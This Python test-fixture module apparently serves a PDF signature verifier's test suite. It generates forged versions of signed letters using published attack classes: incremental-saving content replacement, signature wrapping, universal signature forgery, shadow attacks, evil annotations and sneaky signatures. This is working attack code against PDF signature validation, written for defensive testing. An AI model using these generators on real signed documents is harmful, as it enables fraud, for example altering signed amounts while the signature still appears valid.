"""Files of attackers, each made from a good signed letter: what was published of PDF signatures, class by class.

Classes: incremental saving attack, signature wrapping, universal signature forgery (Mladenov et al., 2019), shadow
attacks hide, replace, hide-and-replace (Mainka et al., 2021), evil annotation and sneaky signature (Rohlmann et al.,
2021), and what can be done with the parts of a signature: moved, swapped, cut off, duplicated, left over.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

from asn1crypto import keys, x509
from cryptography import x509 as pyca_x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NumberObject,
    StreamObject,
    TextStringObject,
    pdf_name,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints
from pyhanko.sign.signers import SimpleSigner
from pyhanko.stamp import StaticStampStyle
from pyhanko_certvalidator.registry import SimpleCertificateStore

from tests.signing.verify.letters import Maker, plain_letter

FULL_PAGE = (0, 0, 595, 842)
TEXT_AREA = (60, 680, 540, 740)
BLANK_AREA = (60, 100, 300, 160)


def updated(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Return a file with an ordinary incremental update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    # The moment of the last change would differ or not, as the second turns: nothing but the change itself is written.
    writer._update_meta = lambda: None
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page_of(writer: IncrementalPdfFileWriter, index: int = 0) -> Any:
    return writer.find_page_for_modification(index)[0].get_object()


def drawing(box: tuple[float, float, float, float], operators: bytes) -> StreamObject:
    """Return a form XObject that draws something in a box of the page's size."""
    width, height = box[2] - box[0], box[3] - box[1]
    font = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    return StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): numbers(0, 0, width, height),
            pdf_name("/Resources"): DictionaryObject({pdf_name("/Font"): DictionaryObject({pdf_name("/F1"): font})}),
        },
        stream_data=operators,
    )


def numbers(*values: float) -> ArrayObject:
    return ArrayObject([FloatObject(value) for value in values])


WHITE = b"1 1 1 rg 0 0 2000 2000 re f"
GREY = b"0.8 0.8 0.8 rg 0 0 2000 2000 re f"
BLACK = b"0 0 0 rg 0 0 2000 2000 re f"


def words(text: str, size: int = 14) -> bytes:
    return f"BT /F1 {size} Tf 4 10 Td ({text}) Tj ET".encode()


OTHER_TEXT = b"BT /F1 14 Tf 72 720 Td (Het bedrag is 9000 euro.) Tj ET"


def replace_content(data: bytes, operators: bytes = OTHER_TEXT) -> bytes:
    """Incremental saving attack: another page content in an ordinary update."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = page_of(writer)
        page[pdf_name("/Contents")] = writer.add_object(StreamObject(stream_data=operators))
        writer.update_container(page)

    return updated(data, change)


def overwrite_content_object(data: bytes) -> bytes:
    """The same object number with other content."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        reference = page_of(writer).raw_get("/Contents").reference
        stream = StreamObject(stream_data=b"BT /F1 14 Tf 72 720 Td (Iets anders) Tj ET")
        writer.objects[(reference.generation, reference.idnum)] = stream
        stream.container_ref = reference

    return updated(data, change)


def add_page(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): numbers(*FULL_PAGE),
                pdf_name("/Contents"): writer.add_object(StreamObject(stream_data=b"")),
                pdf_name("/Resources"): DictionaryObject(),
            }
        )
        pages = writer.root["/Pages"]
        pages["/Kids"].append(writer.add_object(page))
        pages[pdf_name("/Count")] = NumberObject(int(pages["/Count"]) + 1)
        page[pdf_name("/Parent")] = writer.root.raw_get("/Pages")
        writer.update_container(pages)

    return updated(data, change)


def swap_pages(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        kids = writer.root["/Pages"]["/Kids"]
        first, second = kids.raw_get(0), kids.raw_get(1)
        kids[0], kids[1] = second, first
        writer.update_container(kids)

    return updated(data, change)


def page_key(data: bytes, key: str, value: Any) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = page_of(writer)
        page[pdf_name(key)] = value
        writer.update_container(page)

    return updated(data, change)


def catalog_key(data: bytes, key: str, value: Any) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[pdf_name(key)] = value
        writer.update_root()

    return updated(data, change)


def annotate(
    data: bytes, *, subtype: str, box: tuple[float, float, float, float], operators: bytes = b"", **more: Any
) -> bytes:
    """Evil annotation: a comment that may cover what was signed."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = page_of(writer)
        note = DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/Rect"): numbers(*box),
                pdf_name("/F"): NumberObject(4),
                pdf_name("/Contents"): TextStringObject("opmerking"),
            }
        )
        for key, value in more.items():
            note[pdf_name("/" + key)] = value
        if operators:
            appearance = writer.add_object(drawing(box, operators))
            note[pdf_name("/AP")] = DictionaryObject({pdf_name("/N"): appearance})
        reference = writer.add_object(note)
        if "/Annots" in page:
            page["/Annots"].append(reference)
            writer.update_container(page["/Annots"])
        else:
            page[pdf_name("/Annots")] = ArrayObject([reference])
        writer.update_container(page)

    return updated(data, change)


def signature_widget(writer: IncrementalPdfFileWriter, index: int = 0) -> Any:
    return writer.root["/AcroForm"]["/Fields"][index]


def move_rect(data: bytes, box: tuple[float, float, float, float] = TEXT_AREA) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        widget = signature_widget(writer)
        widget[pdf_name("/Rect")] = numbers(*box)
        writer.update_container(widget)

    return updated(data, change)


def swap_appearance(data: bytes, operators: bytes = words("B. Bedrieger")) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        widget = signature_widget(writer)
        appearance = writer.add_object(drawing((0, 0, 240, 60), operators))
        widget[pdf_name("/AP")] = DictionaryObject({pdf_name("/N"): appearance})
        writer.update_container(widget)

    return updated(data, change)


def overwrite_appearance_stream(data: bytes) -> bytes:
    """Another content under the number of the signature's own appearance stream."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        stream = signature_widget(writer)["/AP"]["/N"]
        stream._data = words("B. Bedrieger")
        stream._encoded_data = None
        writer.update_container(stream)

    return updated(data, change)


def remove_signature(data: bytes, *, field_too: bool = True) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        if field_too:
            form[pdf_name("/Fields")] = ArrayObject()
        else:
            widget = signature_widget(writer)
            del widget["/V"]
            writer.update_container(widget)
        writer.update_container(form)

    return updated(data, change)


def remove_form(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        del writer.root["/AcroForm"]
        writer.update_root()

    return updated(data, change)


# Universal signature forgery: the signature stays, but what is needed to check it goes.


def _signature_entry(data: bytes, key: str, value: Any) -> bytes:
    """Return the file with a new signature dictionary that lacks or changes one entry."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        widget = signature_widget(writer)
        old = widget["/V"]
        new = DictionaryObject({name: old.raw_get(name) for name in old})
        if value is None:
            new.pop(pdf_name(key), None)
        else:
            new[pdf_name(key)] = value
        widget[pdf_name("/V")] = writer.add_object(new)
        writer.update_container(widget)

    return updated(data, change)


def forgeries() -> dict[str, Callable[[bytes], bytes]]:
    odd: dict[str, Any] = {
        "missing": None,
        "null": generic.NullObject(),
        "empty": ArrayObject(),
        "negative": ArrayObject([NumberObject(value) for value in (0, -1, -1, 10)]),
        "zero": ArrayObject([NumberObject(0)] * 4),
        "short": ArrayObject([NumberObject(0), NumberObject(10)]),
    }
    made: dict[str, Callable[[bytes], bytes]] = {
        f"byte range {name}": (lambda data, value=value: _signature_entry(data, "/ByteRange", value))
        for name, value in odd.items()
    }
    contents: dict[str, Any] = {
        "missing": None,
        "null": generic.NullObject(),
        "empty": generic.ByteStringObject(b""),
        "zero": generic.ByteStringObject(b"\x00"),
        "zeros": generic.ByteStringObject(bytes(64)),
        "junk": generic.ByteStringObject(b"geen handtekening"),
    }
    made |= {
        f"contents {name}": (lambda data, value=value: _signature_entry(data, "/Contents", value))
        for name, value in contents.items()
    }
    made["subfilter changed"] = lambda data: _signature_entry(data, "/SubFilter", pdf_name("/adbe.x509.rsa_sha1"))
    made["subfilter unknown"] = lambda data: _signature_entry(data, "/SubFilter", pdf_name("/onbekend"))
    return made


# Signature wrapping: the signed bytes stay in the file, the range points at them, another page stands between.


def wrap(data: bytes) -> bytes:
    """Move the second signed part to the end; a new signature dictionary names it there, another page stands between.

    Digest and signature value stay right: the range still names exactly the bytes that were signed.
    """
    found = re.search(rb"/ByteRange\s*\[(\d+) (\d+) (\d+) (\d+)", data)
    assert found
    first, second, length = int(found[2]), int(found[3]), int(found[4])
    place = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    letter_end = data.index(b"%%EOF") + 5
    evil = b"BT /F1 14 Tf 72 720 Td (Het bedrag is 9000 euro.) Tj ET"
    content = re.search(rb"/Contents (\d+) 0 R", data)
    assert content
    bodies = {int(one[1]): one[0] for one in re.finditer(rb"(\d+) 0 obj.*?endobj", data[letter_end:], re.DOTALL)}
    bodies[int(content[1])] = content[1] + b" 0 obj<</Length %d>>stream\n%b\nendstream endobj" % (len(evil), evil)
    signature = next(number for number, body in bodies.items() if b"/ByteRange" in body)
    moved = place + 2 * len(b"".join(bodies.values())) + 40_000
    named = b"/ByteRange [0 %d %d %d]" % (first, moved, length)
    bodies[signature] = re.sub(rb"/ByteRange\s*\[[^\]]*\]", named, bodies[signature])
    text = data[:second].ljust(place)
    trailer = data[data.rindex(b"trailer") : data.rindex(b"startxref")]
    start, objects, entries = place + 20 * len(bodies) + 4_000, b"", {}
    for number, body in bodies.items():
        entries[number] = start + len(objects)
        objects += body + b"\n"
    table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (number, entries[number]) for number in sorted(entries))
    text = (text + table + trailer).ljust(start) + objects
    return text.ljust(moved) + data[second : second + length]


def hole_in_gap(data: bytes) -> bytes:
    """Hide an object in the gap, behind a shortened /Contents."""
    found = re.search(rb"/Contents\s*<([0-9A-Fa-f]+)>", data)
    assert found
    end = found.end(1)
    evil = b">/X(" + b"a" * 200 + b")/Y<"
    return data[: end - len(evil)] + evil + data[end:]


# Bytes that no cross-reference accounts for.


def append_objects(data: bytes, *, xref: str) -> bytes:
    """Append a changed page whose cross-reference is missing, empty or damaged."""
    evil = replace_content(data)[len(data) :]
    if xref == "missing":
        return data + evil[: evil.rindex(b"xref", 0, evil.rindex(b"startxref"))]
    if xref == "none":
        return data + evil[: evil.rindex(b"startxref")]
    if xref == "empty":
        body = evil[: evil.rindex(b"xref", 0, evil.rindex(b"startxref"))]
        root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
        size = re.findall(rb"/Size (\d+)", data)[-1]
        previous = re.findall(rb"startxref\s+(\d+)", data)[-1]
        place = len(data) + len(body)
        trailer = b"xref\n0 0\ntrailer\n<</Root " + root + b"/Size " + size + b"/Prev " + previous + b">>\n"
        return data + body + trailer + b"startxref\n" + str(place).encode() + b"\n%%EOF\n"
    if xref == "damaged":
        return data + re.sub(rb"startxref\s+\d+", b"startxref\n999999999", evil)
    raise AssertionError(xref)


def append_junk(data: bytes, junk: bytes = b"<html>Deze bijlage is gecontroleerd</html>\n") -> bytes:
    return data + junk


# Shadow attacks: prepared before the signature, worked after it.


def shadow_letter(kind: str) -> bytes:
    """Return an unsigned letter prepared for a shadow attack."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_letter()))
    page = page_of(writer)
    if kind == "hide":
        overlay = writer.add_object(drawing(FULL_PAGE, WHITE + b" 0 0 0 rg " + words("Vriendelijke brief")))
        resources = page["/Resources"]
        resources[pdf_name("/XObject")] = DictionaryObject({pdf_name("/Sh"): overlay})
        writer.update_container(resources)
        old = page.raw_get("/Contents")
        extra = writer.add_object(StreamObject(stream_data=b"q /Sh Do Q"))
        page[pdf_name("/Contents")] = ArrayObject([old, extra])
        writer.update_container(page)
    elif kind == "replace":
        _add_text_field(writer, page, "bedrag", "1000", (72, 600, 200, 624))
    elif kind == "hide-and-replace":
        hidden = writer.add_object(StreamObject(stream_data=OTHER_TEXT))
        writer.root[pdf_name("/PieceInfo")] = DictionaryObject({pdf_name("/Schaduw"): hidden})
        writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _add_text_field(
    writer: IncrementalPdfFileWriter, page: Any, name: str, value: str, box: tuple[float, float, float, float]
) -> None:
    field = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): TextStringObject(name),
            pdf_name("/V"): TextStringObject(value),
            pdf_name("/Rect"): numbers(*box),
            pdf_name("/F"): NumberObject(4),
            pdf_name("/DA"): TextStringObject("/F1 14 Tf 0 g"),
            pdf_name("/AP"): DictionaryObject({pdf_name("/N"): writer.add_object(drawing(box, words(value)))}),
        }
    )
    reference = writer.add_object(field)
    page[pdf_name("/Annots")] = ArrayObject([reference])
    writer.update_container(page)
    writer.root[pdf_name("/AcroForm")] = DictionaryObject({pdf_name("/Fields"): ArrayObject([reference])})
    writer.update_root()


def form_letter(value: str = "") -> bytes:
    """Return an unsigned letter with a text field."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_letter()))
    _add_text_field(writer, page_of(writer), "bedrag", value, (72, 600, 200, 624))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def fill_field(data: bytes, value: str, *, shown: str | None = None, keep_value: bool = False) -> bytes:
    """Fill the text field; what it shows may differ from its value."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fields = writer.root["/AcroForm"]["/Fields"]
        field = next(one.get_object() for one in fields if one.get_object()["/FT"] == "/Tx")
        if not keep_value:
            field[pdf_name("/V")] = TextStringObject(value)
        box = (72, 600, 200, 624)
        appearance = writer.add_object(drawing(box, words(value if shown is None else shown)))
        field[pdf_name("/AP")] = DictionaryObject({pdf_name("/N"): appearance})
        writer.update_container(field)

    return updated(data, change)


def shadow_hide(data: bytes) -> bytes:
    """Free the object that covered the other text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        overlay = page_of(writer)["/Resources"]["/XObject"]["/Sh"]
        reference = overlay.container_ref
        empty = drawing(FULL_PAGE, b"")
        empty.container_ref = reference
        writer.objects[(reference.generation, reference.idnum)] = empty

    return updated(data, change)


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Add nothing but a cross-reference: the page's content now is the object that lay hidden in the signed bytes."""
    content = re.search(rb"/Contents (\d+) 0 R", data)
    hidden = [found for found in re.finditer(rb"(\d+) 0 obj", data) if data.find(b"9000", found.end()) != -1]
    assert content
    assert hidden
    place = max(found.start() for found in hidden if found.start() < data.index(b"9000"))
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    size = re.findall(rb"/Size (\d+)", data)[-1]
    previous = re.findall(rb"startxref\s+(\d+)", data)[-1]
    table = b"xref\n" + content[1] + b" 1\n%010d 00000 n \n" % place
    trailer = b"trailer\n<</Root " + root + b"/Size " + size + b"/Prev " + previous + b">>\n"
    return data + table + trailer + b"startxref\n" + str(len(data)).encode() + b"\n%%EOF\n"


# Sneaky signature: a later signature field whose picture is the attack.


def stranger() -> SimpleSigner:
    """Return a signer with a certificate of its own making."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = pyca_x509.Name([pyca_x509.NameAttribute(pyca_x509.NameOID.COMMON_NAME, "A. Voorbeeld")])
    made = (
        pyca_x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(pyca_x509.random_serial_number())
        .not_valid_before(datetime(2022, 1, 1, tzinfo=UTC))
        .not_valid_after(datetime(2032, 1, 1, tzinfo=UTC))
        .sign(key, hashes.SHA256())
    )
    private = key.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    return SimpleSigner(
        signing_cert=x509.Certificate.load(made.public_bytes(serialization.Encoding.DER)),
        signing_key=keys.PrivateKeyInfo.load(private),
        cert_registry=SimpleCertificateStore(),
    )


def sneaky_signature(
    make: Maker, data: bytes, *, box: tuple[int, int, int, int], operators: bytes, signer: Any, **more: Any
) -> bytes:
    """Sign again with a field that draws whatever the attacker likes."""
    constraints = BoxConstraints(width=box[2] - box[0], height=box[3] - box[1])
    picture = RawContent(operators, box=constraints)
    style = StaticStampStyle(background=picture, background_opacity=1.0, border_width=0)
    return make.sign(data, signer=signer, field="Stiekem", box=box, stamp_style=style, **more)


def unsigned_field(data: bytes, *, box: tuple[int, int, int, int], operators: bytes) -> bytes:
    """Add a signature field that nobody signs, with a picture."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = page_of(writer)
        widget = DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): TextStringObject("Leeg"),
                pdf_name("/Rect"): numbers(*box),
                pdf_name("/F"): NumberObject(132),
                pdf_name("/AP"): DictionaryObject({pdf_name("/N"): writer.add_object(drawing(box, operators))}),
            }
        )
        reference = writer.add_object(widget)
        if "/Annots" in page:
            page["/Annots"].append(reference)
            writer.update_container(page["/Annots"])
        else:
            page[pdf_name("/Annots")] = ArrayObject([reference])
        writer.update_container(page)
        fields = writer.root["/AcroForm"]["/Fields"]
        fields.append(reference)
        writer.update_container(fields)

    return updated(data, change)


def hidden_reference_letter() -> bytes:
    """Return an unsigned letter whose picture's dictionary says ``endobj`` in a string, before what it refers to."""
    writer = IncrementalPdfFileWriter(io.BytesIO(plain_letter()))
    page = page_of(writer)
    inner = writer.add_object(drawing(FULL_PAGE, words("klein")))
    listed = writer.add_object(
        DictionaryObject({pdf_name("/A"): TextStringObject(">> endobj stream ("), pdf_name("/Sh"): inner})
    )
    resources = page["/Resources"]
    resources[pdf_name("/XObject")] = listed
    writer.update_container(resources)
    extra = writer.add_object(StreamObject(stream_data=b"q /Sh Do Q"))
    page[pdf_name("/Contents")] = ArrayObject([page.raw_get("/Contents"), extra])
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def change_hidden_reference(data: bytes) -> bytes:
    """Overwrite the picture behind that string."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        picture = page_of(writer)["/Resources"]["/XObject"]["/Sh"]
        reference = picture.container_ref
        other = drawing(FULL_PAGE, WHITE + b" 0 0 0 rg " + words("Het bedrag is 9000 euro."))
        other.container_ref = reference
        writer.objects[(reference.generation, reference.idnum)] = other

    return updated(data, change)
